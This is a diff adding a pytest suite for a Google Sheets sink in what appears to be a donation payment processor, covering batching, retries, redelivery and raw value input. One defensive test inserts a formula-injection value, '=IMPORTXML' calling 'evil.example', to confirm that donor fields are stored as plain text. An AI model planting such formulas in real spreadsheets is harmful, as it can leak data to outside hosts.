@@ -0,0 +1,147 @@
+import os
+import sys
+import time
+import jwt
+import pytest
+from urllib.parse import unquote
+
+from cryptography.hazmat.primitives import serialization
+from cryptography.hazmat.primitives.asymmetric import rsa
+
+sys.path.append(os.path.abspath(os.path.join(os.path.dirname(__file__), "..")))
+
+from queues import LocalQueue
+from rate_limiter import AdaptiveTokenBucket
+from sheets_sink import SHEETS_URL, TOKEN_URL, GoogleSheetsClient, PartialWriteError, SheetsRetryableError, SheetsSink, sale_row
+
+class FakeClock:
+    def __init__(self):
+        self.now = 0.0
+
+    def __call__(self):
+        return self.now
+
+class FakeResponse:
+    def __init__(self, status_code, body=None, headers=None):
+        self.status_code = status_code
+        self._body = body or {}
+        self.headers = headers or {}
+
+    def json(self):
+        return self._body
+
+    def raise_for_status(self):
+        if self.status_code >= 400:
+            raise RuntimeError(f"HTTP {self.status_code}")
+
+class FakeSheetsAPI:
+    """
+    A local stand-in for Google's token endpoint and the Sheets values.append endpoint.
+
+    Checks the service account's JWT assertion and bearer token, appends rows to in-memory
+    sheets, and answers 429 for the call numbers listed in throttle_calls.
+    """
+    def __init__(self, public_key, throttle_calls=(), retry_after=None):
+        self.public_key = public_key
+        self.throttle_calls = set(throttle_calls)
+        self.retry_after = retry_after
+        self.sheets = {}
+        self.token_requests = 0
+        self.append_calls = 0
+
+    def post(self, url, data=None, params=None, headers=None, json=None, timeout=None):
+        if url == TOKEN_URL:
+            self.token_requests += 1
+            claims = jwt.decode(data["assertion"], self.public_key, algorithms=["RS256"], audience=TOKEN_URL)
+            assert claims["iss"] == "processor@example.iam.gserviceaccount.com"
+            return FakeResponse(200, {"access_token": "token-1", "expires_in": 3600})
+
+        assert headers["Authorization"] == "Bearer token-1"
+        assert params == {"valueInputOption": "RAW", "insertDataOption": "INSERT_ROWS"}
+        self.append_calls += 1
+        if self.append_calls in self.throttle_calls:
+            return FakeResponse(429, headers={"Retry-After": self.retry_after} if self.retry_after else {})
+        spreadsheet_id, range_ = url[len(SHEETS_URL) + 1:].split("/values/")
+        self.sheets.setdefault((spreadsheet_id, unquote(range_[:-len(":append")])), []).extend(json["values"])
+        return FakeResponse(200, {"updates": {"updatedRows": len(json["values"])}})
+
+@pytest.fixture(scope="module")
+def service_account():
+    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    private_pem = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
+    return {
+        "info": {"client_email": "processor@example.iam.gserviceaccount.com", "private_key": private_pem.decode("ascii")},
+        "public_key": key.public_key()
+    }
+
+def make_sink(api, service_account, queue=None, **options):
+    client = GoogleSheetsClient(service_account["info"], session=api)
+    return SheetsSink(queue if queue is not None else LocalQueue(), lambda rows: client.append("sheet-1", "Sheet1!A:E", rows), **options)
+
+def test_sale_row():
+    event = {
+        "id": "WH-1", "event_type": "PAYMENT.SALE.COMPLETED", "create_time": "2024-05-01T12:00:01Z",
+        "resource": {"id": "SALE-1", "create_time": "2024-05-01T12:00:00Z", "amount": {"total": "25.00", "currency": "USD"}, "custom": "tithe"}
+    }
+    assert sale_row(event) == ["2024-05-01T12:00:00Z", "SALE-1", "25.00", "USD", "tithe"]
+    assert sale_row({**event, "event_type": "PAYMENT.SALE.REFUNDED"}) is None
+
+def test_rows_are_appended_in_batches(service_account):
+    api = FakeSheetsAPI(service_account["public_key"])
+    sink = make_sink(api, service_account)
+    rows = [[f"2024-05-01T12:00:{i % 60:02d}Z", f"SALE-{i}", "10.00", "USD", ""] for i in range(1000)]
+
+    for row in rows:
+        sink.put(row)
+    start_time = time.perf_counter()
+    assert sink.flush() == 1000
+    elapsed = time.perf_counter() - start_time
+
+    print(f"[test_sheets_sink] 1000 rows in {api.append_calls} append calls ({elapsed * 1000:.1f}ms)")
+    assert api.append_calls == 2
+    assert api.token_requests == 1
+    assert api.sheets[("sheet-1", "Sheet1!A:E")] == rows
+    assert len(sink.queue) == 0
+
+def test_quota_errors_are_retried_in_order(service_account):
+    api = FakeSheetsAPI(service_account["public_key"], throttle_calls={1, 2}, retry_after="0")
+    sleeps = []
+    limiter = AdaptiveTokenBucket(10, name="SheetsWrite", clock=FakeClock(), sleep=lambda seconds: None)
+    sink = make_sink(api, service_account, limiter=limiter, max_batch_rows=50, sleep=sleeps.append)
+
+    for i in range(120):
+        sink.put([str(i)])
+    assert sink.flush() == 120
+
+    assert [row[0] for row in api.sheets[("sheet-1", "Sheet1!A:E")]] == [str(i) for i in range(120)]
+    assert api.append_calls == 5
+    assert sleeps == [0.0, 0.0]
+    # Two throttles halve the pace twice.
+    assert limiter.rate < 10
+
+def test_failed_batch_is_redelivered_without_loss(service_account):
+    clock = FakeClock()
+    queue = LocalQueue(visibility_timeout=30, clock=clock)
+    api = FakeSheetsAPI(service_account["public_key"], throttle_calls={1, 2, 3})
+    sink = make_sink(api, service_account, queue=queue, max_batch_rows=10, max_retries=2, sleep=lambda seconds: None)
+
+    for i in range(25):
+        sink.put([str(i)])
+    with pytest.raises(PartialWriteError) as error:
+        sink.flush()
+    assert isinstance(error.value.cause, SheetsRetryableError)
+    # Nothing was written, and nothing after the failed batch was written ahead of it.
+    assert api.sheets == {}
+    assert len(queue) == 25
+
+    clock.now += 31
+    assert sink.flush() == 25
+    assert [row[0] for row in api.sheets[("sheet-1", "Sheet1!A:E")]] == [str(i) for i in range(25)]
+
+def test_values_are_appended_raw(service_account):
+    api = FakeSheetsAPI(service_account["public_key"])
+    sink = make_sink(api, service_account)
+
+    # The fake checks valueInputOption=RAW, so the donor-controlled custom field is never run as a formula.
+    sink.append_rows([["2024-05-01T12:00:00Z", "SALE-1", "10.00", "USD", '=IMPORTXML("https://evil.example", "//a")']])
+    assert api.sheets[("sheet-1", "Sheet1!A:E")][0][4].startswith("=IMPORTXML")